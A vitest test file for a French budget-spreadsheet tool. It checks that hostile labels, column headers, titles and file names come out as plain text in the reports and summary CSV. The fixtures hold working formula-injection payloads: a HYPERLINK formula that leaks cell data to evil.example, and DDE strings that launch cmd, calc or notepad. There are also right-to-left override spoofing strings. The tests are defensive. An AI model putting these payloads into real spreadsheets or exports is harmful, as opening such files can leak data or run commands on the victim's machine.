// Hostile labels: formulas (=HYPERLINK, +cmd, @SUM), 10,000-character labels, control characters and
// right-to-left marks, in labels, in an amount column's header, in the workbook's title and in file names.
// They are written as plain text everywhere (report, mapping table, folder CSV), never as formulas; the
// written file stays valid for exceljs and LibreOffice, and its figures are still the engine's.
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { cachedValues, libreOfficeAvailable, recalculate } from "../libreoffice.ts";
import { MAP_COL } from "../../src/workbook/reportText.ts";
import { defaultParameters } from "../../src/engine/parameters.ts";
import { analyzeSnapshot } from "../../src/workbook/pipeline.ts";
import type { ReportPlan } from "../../src/workbook/plan.ts";
import { expectSoundRun, formulaTexts, runWholePath, sheetXml, xlsx, type Outcome } from "./pipeline.ts";

const ROOT = join(import.meta.dirname, "..", "..");

const LONG = (start: string) => `${start} ${"é".repeat(10_000 - start.length - 1)}`;

/** Labels that look like formulas or carry odd characters (as exceljs writes them: it drops C0 controls but tab, LF, CR). */
const FORMULA_LABELS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "=1+1",
  '=CONCATENATE("Sub","vention")',
];
const ODD_LABELS = [
  "Loyer\u0001\u0007\u001b[31m rouge\u007f",
  "Frais\tde\ttabulation",
  "Assurance\r\nsur deux lignes",
  "\u202eexe.ertnoc\u202c Subvention",
  "\u200fتبرعات Dons\u200e",
  "\ufeffCotisations\u200b des adhérents",
  "<f>SUM(A1)</f> ]]> &amp; \"guillemets\" 'apostrophe'",
  "_x0041_ Fournitures _x000D_",
  // How Excel stores control characters in the XML: exceljs decodes them, so the labels carry BEL, ESC, SOH.
  "Loyer_x0001__x0007_ bip_x001B_[31m rouge",
];
const LONG_LABELS = [LONG("Honoraires d'expert-comptable"), LONG("Salaires de la direction"), LONG("Frais de siège et de gestion"), LONG("Subvention de fonctionnement")];
const HOSTILE_HEADER = '=HYPERLINK("http://evil.example","Budget")';
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example","Association")&"';

const RAW_LABELS = [...FORMULA_LABELS, ...ODD_LABELS, ...LONG_LABELS];

/** Rows of the budget sheet: label, amount (the hostile ones spread over charges and produits). */
function budgetRows(header: string | null): (string | number | null)[][] {
  return [
    ["Libellé", header ?? "Montant"],
    ["CHARGES", null],
    ["Achats de fournitures", 1200],
    ...FORMULA_LABELS.slice(0, 3).map((l, i) => [l, 100 + i]),
    ...ODD_LABELS.slice(0, 4).map((l, i) => [l, 200 + i]),
    ...LONG_LABELS.slice(0, 3).map((l, i) => [l, 5000 + i]),
    ["PRODUITS", null],
    ["Subvention mairie", 9000],
    ...FORMULA_LABELS.slice(3).map((l, i) => [l, 300 + i]),
    ...ODD_LABELS.slice(4).map((l, i) => [l, 400 + i]),
    [LONG_LABELS[3]!, 6000],
    ["Cotisations", 1500],
  ];
}
const HOSTILE_ROWS = budgetRows(null)
  .map((r, i) => ({ raw: r[0] as string, row: i + 1 }))
  .filter((r) => RAW_LABELS.includes(r.raw));

async function hostileWorkbook(header: string | null = HOSTILE_HEADER): Promise<Uint8Array> {
  return xlsx((wb) => {
    wb.title = HOSTILE_TITLE;
    wb.addWorksheet("Budget").addRows(budgetRows(header));
  });
}

/** A text as a spreadsheet file can hold it: XML 1.0 has no place for C0 controls but tab, LF and CR. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const storable = (s: string) => s.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, "");

/** A short name for an assertion message (the long labels would fill the screen). */
const short = (s: string) => JSON.stringify(s.slice(0, 40));

/** LibreOffice writes tabs and line breaks as character references, which tests/libreoffice.ts leaves as they are. */
const decodeRefs = (v: unknown) => (typeof v === "string" ? v.replace(/&#(\d+);/g, (_, n: string) => String.fromCharCode(Number(n))) : v);

describe("hostile labels through the whole path", () => {
  let input: Uint8Array;
  let run: Extract<Outcome, { kind: "analysis" }>;
  /** The hostile labels as the analysis reads them from the file (exceljs drops C0 controls but tab, LF, CR when it writes the input). */
  let labels: string[];
  beforeAll(async () => {
    input = await hostileWorkbook();
    const outcome = await runWholePath(input, "hostile.xlsx");
    if (outcome.kind !== "analysis") throw outcome.error;
    run = outcome;
    labels = HOSTILE_ROWS.map(({ row }) => run.doc.lines.find((l) => l.row === row)?.label ?? `(no line on row ${row})`);
  });

  it("reads every hostile label as a budget line, as written", async () => {
    await expectSoundRun(input, run);
    const cells = run.snapshot.sheets[0]!.rows;
    HOSTILE_ROWS.forEach(({ raw, row }, i) => {
      const cell = cells.find((r) => r.index === row)!.cells[0]!;
      expect(cell.formula, short(raw)).toBeUndefined();
      expect(labels[i], short(raw)).toBe(String(cell.value).trim());
    });
    expect(labels.filter((l) => l.length >= 10_000)).toHaveLength(LONG_LABELS.length);
    expect(run.doc.budgets.map((b) => b.amountColumns)).toEqual([[HOSTILE_HEADER]]);
  });

  it("never writes a label, the column header or the title into a formula", async () => {
    const formulas = await formulaTexts(run.output);
    expect(formulas.length).toBeGreaterThan(40);
    for (const l of labels) {
      const core = l.replace(/^[=+@-]/, "").trim().slice(0, 30);
      expect(formulas.filter((f) => f.includes(core)), short(l)).toEqual([]);
    }
    expect(formulas.filter((f) => f.includes("evil.example"))).toEqual(
      // The column header is compared as a quoted string (its quotes doubled), never evaluated.
      formulas.filter((f) => f.includes(`"${HOSTILE_HEADER.replace(/"/g, '""')}"`)),
    );
    expect(formulas.filter((f) => f.includes("cmd|"))).toEqual([]);
  });

  it("keeps them as text in the mapping table and on the report", async () => {
    const mapping = run.back.sheets.find((s) => s.name === "Équilibre – lignes")!;
    const labelCells = mapping.rows.flatMap((r) => r.cells.filter((c) => c.col === 3));
    for (const l of labels) expect(labelCells.filter((c) => c.value === storable(l) && c.formula === undefined).length, short(l)).toBe(1);
    const columnCells = mapping.rows.flatMap((r) => r.cells.filter((c) => c.col === 5 && r.index > 4));
    expect(new Set(columnCells.map((c) => [c.value, c.formula ?? null].join("|")))).toEqual(new Set([`${HOSTILE_HEADER}|`]));

    const report = run.back.sheets.find((s) => s.name === "Équilibre")!;
    const texts = report.rows.flatMap((r) => r.cells).filter((c) => typeof c.value === "string" && c.formula === undefined).map((c) => c.value as string);
    expect(texts).toContain(HOSTILE_TITLE);
    // The lines that weigh most are listed by label: a long label stays whole, within Excel's 32,767 characters.
    expect(texts.some((t) => t.includes(LONG_LABELS[0]!))).toBe(true);
    expect(texts.filter((t) => t.length > 32_767).map((t) => `${short(t)}: ${t.length} characters`)).toEqual([]);
  });

  it("writes the title into the print header with its ampersands doubled", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(run.output as unknown as ArrayBuffer);
    const header = wb.getWorksheet("Équilibre")!.headerFooter.oddHeader ?? "";
    expect(header).toContain(HOSTILE_TITLE.replace(/&/g, "&&"));
    // Excel refuses a header or footer section over 255 characters.
    expect(header.length).toBeLessThanOrEqual(255);
  });

  it.runIf(libreOfficeAvailable() || process.env.CI)("gives a file LibreOffice opens, with the labels as text and the engine's figures", async () => {
    const dir = mkdtempSync(join(tmpdir(), "equilibre-hostile-"));
    const file = join(dir, "hostile-rapport.xlsx");
    writeFileSync(file, run.output);
    const values = await cachedValues(recalculate(file, join(dir, "lo")));
    const mapping = values.get("Équilibre – lignes")!;
    const read = [...mapping.entries()].filter(([ref]) => ref.startsWith(MAP_COL.label)).map(([, v]) => decodeRefs(v));
    for (const l of labels) expect(read.includes(storable(l)), short(l)).toBe(true);
    expect(loMismatches(run.plan, values)).toEqual([]);
  }, 120_000);
});

describe("a correction typed on a label with control characters", () => {
  it("is kept by the next run, though the written mapping table could not hold those characters", async () => {
    const input = await hostileWorkbook("Budget 2026");
    const first = await runWholePath(input, "controles.xlsx");
    if (first.kind !== "analysis") throw first.error;
    // The written file, as read back: its budget keeps the control characters, its mapping table has none.
    // The user types a lever on that row (in the snapshot: exceljs would drop the characters from the budget too).
    const snapshot = structuredClone(first.back);
    const mapping = snapshot.sheets.find((x) => x.name === "Équilibre – lignes")!;
    const row = mapping.rows.find((r) => r.cells.some((c) => c.col === 3 && String(c.value).startsWith("Loyer bip")))!;
    expect(row.cells.find((c) => c.col === 3)!.value).toBe("Loyer bip[31m rouge");
    row.cells = [...row.cells.filter((c) => c.col !== 15), { col: 15, value: "Subventions publiques" }].sort((a, b) => a.col - b.col);
    const again = analyzeSnapshot(snapshot, defaultParameters());
    expect(again.classified.filter((l) => l.corrected).map((l) => [l.label, l.lever])).toEqual([["Loyer\u0001\u0007 bip\u001b[31m rouge", "public_grants"]]);
  });
});

describe("a 400-character association name with ampersands and line breaks", () => {
  it("is whole on the report and cut in the print header, which stays within Excel's 255 characters", async () => {
    const title = `Association ${"des amis & voisins\n".repeat(22)}`.trim();
    const input = await xlsx((wb) => {
      wb.title = title;
      wb.addWorksheet("Budget").addRows(budgetRows("Budget 2026").filter((r) => !RAW_LABELS.includes(r[0] as string)));
    });
    const run = await runWholePath(input, "titre.xlsx");
    if (run.kind !== "analysis") throw run.error;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(run.output as unknown as ArrayBuffer);
    const ws = wb.getWorksheet("Équilibre")!;
    expect(ws.getCell("F1").value).toBe(title);
    expect(ws.headerFooter.oddHeader!.length).toBeLessThanOrEqual(255);
    expect(ws.headerFooter.oddHeader).toContain("Association des amis && voisins des amis && voisins");
  });
});

/** Formula cells whose LibreOffice result differs from the engine's expected value. */
function loMismatches(plan: ReportPlan, values: Map<string, Map<string, string | number | boolean>>): string[] {
  const wrong: string[] = [];
  for (const s of plan.sheets) {
    const got = values.get(s.name)!;
    for (const c of s.cells) {
      if (!c.formula || c.expected === undefined || c.expected === null) continue;
      const v = got.get(c.ref) ?? "";
      const same = typeof c.expected === "number" ? typeof v === "number" && Math.abs(v - c.expected) < 0.011 : v === c.expected;
      if (!same) wrong.push(`${s.name}!${c.ref}: ${JSON.stringify(c.expected)} ≠ ${JSON.stringify(v)}`);
    }
  }
  return wrong;
}

describe.runIf(libreOfficeAvailable() || process.env.CI)("column headers a spreadsheet could read as a criterion", () => {
  it("are matched as text: LibreOffice's figures equal the engine's for every column", async () => {
    const headers = ["<2026", "Budget 2027*", "Réalisé ~?", '=Prévu, révisé "CA"'];
    const input = await xlsx((wb) =>
      wb.addWorksheet("Budget").addRows([
        ["Poste", ...headers],
        ["CHARGES", null, null, null, null],
        ["Achats fournitures", 1000, 1100, 1200, 1300],
        ["Honoraires comptable", 500, 600, 700, 800],
        ["PRODUITS", null, null, null, null],
        ["Subvention Région", 1000, 1500, 2000, 2500],
        ["Dons", 500, 400, 300, 200],
      ]),
    );
    const outcome = await runWholePath(input, "entetes.xlsx");
    if (outcome.kind !== "analysis") throw outcome.error;
    expect(outcome.doc.analyses.map((a) => a.column)).toEqual(headers);
    const dir = mkdtempSync(join(tmpdir(), "equilibre-criteria-"));
    const file = join(dir, "entetes.xlsx");
    writeFileSync(file, outcome.output);
    const values = await cachedValues(recalculate(file, join(dir, "lo")));
    expect(loMismatches(outcome.plan, values)).toEqual([]);
    // The column dropdown lists the four names from cells, commas and quotes included.
    const report = (await sheetXml(outcome.output)).get("Équilibre")!;
    const list = /<dataValidation [^>]*type="list"[\s\S]*?<formula1>([^<]*)<\/formula1>/.exec(report)?.[1] ?? "";
    const m = /^(?:'[^']*'!)?\$K\$(\d+):\$N\$\1$/.exec(list.replace(/&apos;/g, "'"));
    expect(m, list).not.toBeNull();
    expect(["K", "L", "M", "N"].map((col) => values.get("Équilibre")!.get(`${col}${m![1]}`))).toEqual(headers);
  }, 120_000);
});

/** Splits a CSV of src/cli/csv.ts (";" separator, quoted fields with doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ";") endCell();
    else if (ch === "\r" && text[i + 1] === "\n") {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += ch;
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

describe("the folder CSV with hostile names", () => {
  it("neutralises every cell that would start a formula, and keeps the text", async () => {
    const dir = mkdtempSync(join(tmpdir(), "equilibre-hostile-csv-"));
    const inputs = join(dir, "classeurs");
    const outputs = join(dir, "rapports");
    mkdirSync(inputs);
    mkdirSync(outputs);
    const names = ["=HYPERLINK(1)&cmd.xlsx", "+cmd budget.xlsx", "@SUM budget.xlsx", "-2+3 budget.xlsx"];
    writeFileSync(join(inputs, names[0]!), await hostileWorkbook());
    writeFileSync(join(inputs, names[1]!), await hostileWorkbook("+cmd|' /C calc'!A0"));
    writeFileSync(join(inputs, names[2]!), await hostileWorkbook("@SUM(A1:A3)"));
    writeFileSync(join(inputs, names[3]!), "pas un classeur");
    const csvPath = join(dir, "synthese.csv");
    const r = spawnSync(process.execPath, [join(ROOT, "bin", "equilibre.mjs"), "analyze", inputs, "-o", outputs, "--summary", csvPath], { cwd: ROOT, encoding: "utf8", timeout: 120_000 });
    expect(r.status, r.stderr).toBe(0);
    const rows = parseCsv(readFileSync(csvPath, "utf8").replace(/^\ufeff/, ""));
    expect(rows.length).toBeGreaterThanOrEqual(5);
    const width = rows[0]!.length;
    for (const row of rows) expect(row, row[0]).toHaveLength(width);
    const risky = rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(,\d+)?$/.test(c));
    expect(risky).toEqual([]);
    // The file names and the hostile column headers are there, as text behind an apostrophe.
    const firstColumn = rows.slice(1).map((row) => row[0]);
    for (const n of names) expect(firstColumn).toContain(`'${n}`);
    const columns = rows.slice(1).map((row) => row[2]);
    expect(columns).toEqual(expect.arrayContaining([`'${HOSTILE_HEADER}`, "'+cmd|' /C calc'!A0", "'@SUM(A1:A3)"]));
    // The written copies are valid workbooks holding the labels as text.
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(outputs, "=HYPERLINK(1)&cmd-equilibre.xlsx"));
    const mapping = wb.getWorksheet("Équilibre – lignes")!;
    const written: unknown[] = [];
    mapping.eachRow((row) => written.push(row.getCell(3).value));
    const doc = (await runWholePath(await hostileWorkbook(), "x.xlsx")) as Extract<Outcome, { kind: "analysis" }>;
    const expected = HOSTILE_ROWS.map(({ row }) => storable(doc.doc.lines.find((l) => l.row === row)!.label));
    expect(expected.filter((l) => !written.includes(l)).map(short)).toEqual([]);
  }, 120_000);
});
